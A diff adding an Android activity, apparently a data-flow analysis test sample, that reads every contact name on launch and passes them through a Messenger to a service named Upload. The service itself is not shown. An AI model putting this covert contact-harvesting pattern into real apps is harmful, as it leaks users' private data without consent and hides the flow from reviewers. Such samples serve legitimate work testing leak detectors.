@@ -1,0 +1,56 @@
+package com.example.flows.messenger;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+/** Names go in a message to a service's handler. */
+public class MainActivity extends Activity {
+    @Override
+    public void onCreate(Bundle state) {
+        super.onCreate(state);
+        bindService(new Intent(this, Upload.class), new ServiceConnection() {
+            @Override
+            public void onServiceConnected(ComponentName name, IBinder binder) {
+                Message message = Message.obtain(null, 1);
+                Bundle data = new Bundle();
+                data.putString("names", contacts());
+                message.setData(data);
+                try {
+                    new Messenger(binder).send(message);
+                } catch (RemoteException e) {
+                    Log.w("x", "gone");
+                }
+            }
+            @Override
+            public void onServiceDisconnected(ComponentName name) { }
+        }, BIND_AUTO_CREATE);
+    }
+    String contacts() {
+        StringBuilder names = new StringBuilder();
+        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (cursor.moveToNext()) {
+            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
+        }
+        cursor.close();
+        return names.toString();
+    }
+}
